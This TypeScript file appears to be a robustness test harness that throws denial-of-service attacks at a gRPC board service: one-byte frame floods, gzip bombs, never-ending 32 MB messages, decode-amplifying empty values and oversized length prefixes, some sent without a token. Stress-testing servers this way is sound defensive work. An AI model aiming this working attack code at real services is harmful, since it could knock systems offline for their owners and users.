/** Attacks with messages: sent in crumbs, blown up by compression, larger than anybody takes. */

import { gzipSync } from "node:zlib";
import type { Attack, Field } from "./attack.ts";
import {
  field,
  FRAME,
  frame,
  FRAME_BYTES,
  head,
  headers,
  join,
  literal,
  message,
  PADDED,
  repeated,
  text,
  uint32,
} from "./bytes.ts";
import type { Http2Peer, HttpPeer } from "./peer.ts";

export const GET_GPIO = "/viam.component.board.v1.BoardService/GetGPIO";
const BOARD_COMMAND = "/viam.component.board.v1.BoardService/DoCommand";
const LARGEST_BYTES = 32 * 1024 * 1024;
const WEB = "application/grpc-web+proto";
const WEB_TEXT = "application/grpc-web-text+proto";
/** One-byte pieces that go out in one write. */
const CRUMBS = 4096;
/** Messages blown up at once. */
const BOMBS = 100;
/** Messages that are never whole. */
const HOARDED = 100;
/** Time for two such requests; the play ends when they are answered. */
const ANSWERS_SECONDS = 45;

/** Sends a message of the largest size, a byte a frame, on `streams` streams of a connection. */
function crumbs(streams: number, contentType: string, padded = false) {
  const piece = padded
    ? frame(FRAME.data, PADDED, 0, join([Uint8Array.of(255, 1), new Uint8Array(255)]))
    : frame(FRAME.data, 0, 0, Uint8Array.of(1));
  const roomOfPiece = padded ? 257 : 1;
  return async (field: Field, peer: Http2Peer) => {
    const feed = async () => {
      const stream = peer.stream();
      const { secure, token } = field.target;
      await peer.write(headers(stream, head(GET_GPIO, { secure, token, contentType })));
      const prefix = join([Uint8Array.of(0), uint32(LARGEST_BYTES)]);
      if (await peer.room(stream, prefix.length) < prefix.length) return;
      if (!await peer.write(frame(FRAME.data, 0, stream, prefix))) return;
      const pieces = onStream(repeated(piece, CRUMBS), piece.length, stream);
      for (let left = LARGEST_BYTES; left > 0 && !field.over;) {
        const count = Math.floor(await peer.room(stream, Math.min(left, CRUMBS) * roomOfPiece) / roomOfPiece);
        if (count === 0 || !await peer.write(pieces.subarray(0, count * piece.length))) return;
        left -= count;
      }
      await Promise.race([peer.whenEnded(stream), field.sleep(field.ms)]);
    };
    await Promise.all(Array.from({ length: streams }, feed));
  };
}

/** Frames of one length each, all made out to `stream`. */
export function onStream(frames: Uint8Array, frameBytes: number, stream: number): Uint8Array {
  for (let at = 0; at < frames.length; at += frameBytes) frames.set(uint32(stream), at + 5);
  return frames;
}

/** The same over HTTP/1.1, a chunk a byte, as gRPC-web or to a page. */
function chunks(path: string, contentType: string, byte: string) {
  const declared = String.fromCharCode(0, 2, 0, 0, 0);
  const beginning = contentType === WEB_TEXT ? btoa(`${declared}\0`) : declared;
  return async (field: Field, peer: HttpPeer) => {
    await peer.write(post(path, contentType));
    await peer.write(join([text(`${beginning.length.toString(16)}\r\n`), latin1(beginning), text("\r\n")]));
    await field.flood(peer, repeated(text(`1\r\n${byte}\r\n`), CRUMBS));
  };
}

function post(path: string, contentType: string, length = "transfer-encoding: chunked"): Uint8Array {
  return text(
    `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: ${contentType}\r\n${length}\r\n\r\n`,
  );
}

function latin1(value: string): Uint8Array {
  return Uint8Array.from(value, (char) => char.charCodeAt(0));
}

/** A message that lacks its last bytes. */
function unendedMessage(): Uint8Array {
  return message(new Uint8Array(LARGEST_BYTES - 64), { declared: LARGEST_BYTES });
}

/** Many calls at once, each with a message that is small until it is inflated. */
async function bombs(field: Field, peer: Http2Peer): Promise<void> {
  const bomb = message(gzipSync(new Uint8Array(LARGEST_BYTES - 1)), { compressed: true });
  const { secure, token } = field.target;
  const more = literal("grpc-encoding", "gzip");
  await Promise.all(Array.from({ length: BOMBS }, async () => {
    const stream = peer.stream();
    await peer.write(headers(stream, head(GET_GPIO, { secure, token, more })));
    if (!await peer.body(stream, bomb, FRAME_BYTES)) return;
    await Promise.race([peer.whenEnded(stream), field.sleep(field.ms)]);
  }));
}

/** A command with millions of empty values: two bytes each on the way, an object each when decoded. */
function empties(): Uint8Array {
  const values = repeated(field(1, ""), 4 * 1024 * 1024);
  const list = field(6, values);
  const entry = join([field(1, "x"), field(2, list)]);
  return message(join([field(1, "board1"), field(2, field(1, entry))]));
}

async function decoded(play: Field, peer: Http2Peer): Promise<void> {
  const body = empties();
  const { secure, token } = play.target;
  await Promise.all(Array.from({ length: 4 }, async () => {
    const stream = peer.stream();
    await peer.write(headers(stream, head(BOARD_COMMAND, { secure, token })));
    if (!await peer.body(stream, body, FRAME_BYTES)) return;
    await Promise.race([peer.whenEnded(stream), play.sleep(play.ms)]);
  }));
}

/** Calls that each send a message of the largest size, but for its end, and stay. */
async function hoard(play: Field, peer: Http2Peer): Promise<void> {
  const unended = unendedMessage();
  const { secure, token } = play.target;
  await Promise.all(Array.from({ length: HOARDED }, async () => {
    const stream = peer.stream();
    await peer.write(headers(stream, head(GET_GPIO, { secure, token })));
    for (let at = 0; at < unended.length;) {
      const room = await peer.room(stream, Math.min(FRAME_BYTES, unended.length - at));
      if (room === 0 || !await peer.write(frame(FRAME.data, 0, stream, unended.subarray(at, at + room)))) {
        return;
      }
      at += room;
    }
    await Promise.race([peer.whenEnded(stream), play.sleep(play.ms)]);
  }));
}

async function hoardWeb(play: Field, peer: HttpPeer): Promise<void> {
  await peer.write(join([post(GET_GPIO, WEB, `content-length: ${LARGEST_BYTES}`), unendedMessage()]));
  await Promise.race([peer.over, play.sleep(play.ms)]);
}

/** A call whose answer is wanted, whatever it says, and one more on the same connection. */
async function answered(play: Field, body: Uint8Array, contentType?: string): Promise<void> {
  const peer = await play.http2();
  if (!peer) return play.complain("could not connect");
  for (const [what, bytes] of [["the request", body], ["the next request", small(contentType)]] as const) {
    const stream = peer.stream();
    const ended = peer.whenEnded(stream);
    const { secure, token } = play.target;
    await peer.write(headers(stream, head(GET_GPIO, { secure, token, contentType })));
    void peer.body(stream, bytes, FRAME_BYTES);
    const how = await Promise.race([ended, play.sleep(play.patienceMs).then(() => "not answered")]);
    if (how !== "answered" && how !== "reset") return play.complain(`${what} was ${how}`);
  }
}

function small(contentType?: string): Uint8Array {
  return encoded(message(join([field(1, "board1"), field(2, "20")])), contentType);
}

function encoded(bytes: Uint8Array, contentType?: string): Uint8Array {
  return contentType === WEB_TEXT ? text(bytes.toBase64()) : bytes;
}

function named(bytes: number, contentType?: string): Uint8Array {
  return encoded(message(join([field(1, "x".repeat(bytes)), field(2, "20")])), contentType);
}

/** The same over HTTP/1.1, on one connection. */
async function answeredWeb(play: Field, bodies: readonly Uint8Array[], contentType: string): Promise<void> {
  const peer = await play.http();
  if (!peer) return play.complain("could not connect");
  for (const [index, body] of bodies.entries()) {
    void peer.write(join([post(GET_GPIO, contentType, `content-length: ${body.length}`), body]));
    await heard(play, peer, index + 1);
    if (peer.answers <= index) {
      return play.complain(`request ${index + 1} of ${bodies.length} was not answered`);
    }
  }
}

/** Waits for this many answers, with a time limit. */
async function heard(play: Field, peer: HttpPeer, answers: number): Promise<void> {
  const until = performance.now() + play.patienceMs;
  while (peer.answers < answers && peer.open && performance.now() < until && !play.over) await play.sleep(20);
}

/** A message beyond the limit: the server must refuse it long before its end. */
async function overLong(play: Field, contentType: string, over: "http" | "http2"): Promise<void> {
  const prefix = encoded(message(new Uint8Array(1), { declared: 2 * LARGEST_BYTES }), contentType);
  if (over === "http2") {
    return await answered(play, join([prefix, new Uint8Array(100_000).fill(65)]), contentType);
  }
  const peer = await play.http();
  if (!peer) return play.complain("could not connect");
  await peer.write(join([post(GET_GPIO, contentType), text(`${prefix.length.toString(16)}\r\n`), prefix]));
  await peer.write(text("\r\n"));
  await heard(play, peer, 1);
  if (peer.answers === 0) play.complain("a message over the limit was not answered");
}

const on = (width: number, run: (play: Field, peer: Http2Peer) => Promise<void>) => (play: Field) =>
  play.busy(width, () => play.http2(), (peer) => run(play, peer));
const onWeb = (width: number, run: (play: Field, peer: HttpPeer) => Promise<void>) => (play: Field) =>
  play.busy(width, () => play.http(), (peer) => run(play, peer));

export const MESSAGES: readonly Attack[] = [
  {
    name: "crumbs",
    what: "a message of 32 MB in DATA frames of 1 byte",
    victim: "open",
    fate: "any",
    play: on(1, crumbs(1, "application/grpc")),
  },
  {
    name: "crumbs-twice",
    what: "two messages of 32 MB in DATA frames of 1 byte",
    victim: "open",
    fate: "any",
    play: on(1, crumbs(2, "application/grpc")),
  },
  {
    name: "crumbs-crowd",
    what: "200 such messages on 4 connections",
    victim: "open",
    fate: "any",
    play: on(4, crumbs(50, "application/grpc")),
  },
  {
    name: "crumbs-keyed",
    what: "100 such messages without a token",
    victim: "keyed",
    fate: "any",
    play: on(1, crumbs(100, "application/grpc")),
  },
  {
    name: "crumbs-padded",
    what: "a message of 32 MB in padded DATA frames of 1 byte",
    victim: "open",
    fate: "any",
    play: on(1, crumbs(1, "application/grpc", true)),
  },
  {
    name: "crumbs-web-h2",
    what: "gRPC-web over HTTP/2: two messages of 32 MB in DATA frames of 1 byte",
    victim: "open",
    fate: "any",
    play: on(1, crumbs(2, WEB)),
  },
  {
    name: "crumbs-web",
    what: "gRPC-web over HTTP/1.1: a message of 32 MB in chunks of 1 byte",
    victim: "open",
    fate: "any",
    play: onWeb(2, chunks(GET_GPIO, WEB, "A")),
  },
  {
    name: "crumbs-web-text",
    what: "gRPC-web-text over HTTP/1.1: the same",
    victim: "open",
    fate: "any",
    play: onWeb(2, chunks(GET_GPIO, WEB_TEXT, "A")),
  },
  {
    name: "crumbs-page",
    what: "a page that reads no body gets one in chunks of 1 byte",
    victim: "open",
    fate: "any",
    play: onWeb(8, chunks("/", "text/plain", "A")),
  },
  {
    name: "hoard",
    what: "100 calls at once, each with 32 MB of a message that never ends",
    victim: "open",
    fate: "any",
    play: on(1, hoard),
  },
  {
    name: "hoard-without-token",
    what: "100 calls at once, each with 32 MB of a message that never ends, without a token",
    victim: "keyed",
    fate: "any",
    play: on(1, hoard),
  },
  {
    name: "hoard-web",
    what: "gRPC-web over HTTP/1.1: 20 connections, each with 32 MB of a message that never ends",
    victim: "open",
    fate: "any",
    play: onWeb(20, hoardWeb),
  },
  {
    name: "gzip-bombs-without-token",
    what: "100 calls at once, each with 32 kB that inflate to 32 MB, without a token",
    victim: "keyed",
    fate: "answered",
    play: on(1, bombs),
  },
  {
    name: "gzip-bombs",
    what: "100 calls at once, each with 32 kB that inflate to 32 MB",
    victim: "keyed",
    token: true,
    fate: "any",
    play: on(1, bombs),
  },
  {
    name: "empties-without-token",
    what: "8 MB of empty values that decode to millions of objects, without a token",
    victim: "keyed",
    fate: "answered",
    play: on(1, decoded),
  },
  {
    name: "empties",
    what: "8 MB of empty values that decode to millions of objects",
    victim: "keyed",
    token: true,
    fate: "any",
    play: on(1, decoded),
  },
  {
    name: "name-of-5-mb",
    what: "a resource name of 5 MB; the connection answers the next call",
    victim: "open",
    fate: "answered",
    seconds: ANSWERS_SECONDS,
    play: (play) => answered(play, named(5_000_000)),
  },
  {
    name: "web-text-5-mb",
    what: "gRPC-web-text of 3 and 5 MB over HTTP/1.1",
    victim: "open",
    fate: "answered",
    seconds: ANSWERS_SECONDS,
    play: (play) => answeredWeb(play, [named(3_000_000, WEB_TEXT), named(5_000_000, WEB_TEXT)], WEB_TEXT),
  },
  {
    name: "web-text-5-mb-h2",
    what: "gRPC-web-text of 5 MB over HTTP/2",
    victim: "open",
    fate: "answered",
    seconds: ANSWERS_SECONDS,
    play: (play) => answered(play, named(5_000_000, WEB_TEXT), WEB_TEXT),
  },
  {
    name: "web-over-long",
    what: "gRPC-web over HTTP/1.1: a message that says it is longer than any may be",
    victim: "open",
    fate: "answered",
    seconds: ANSWERS_SECONDS,
    play: (play) => overLong(play, WEB, "http"),
  },
  {
    name: "web-over-long-text",
    what: "gRPC-web-text over HTTP/1.1: the same",
    victim: "open",
    fate: "answered",
    seconds: ANSWERS_SECONDS,
    play: (play) => overLong(play, WEB_TEXT, "http"),
  },
  {
    name: "web-over-long-h2",
    what: "gRPC-web over HTTP/2: the same",
    victim: "open",
    fate: "answered",
    seconds: ANSWERS_SECONDS,
    play: (play) => overLong(play, WEB, "http2"),
  },
];
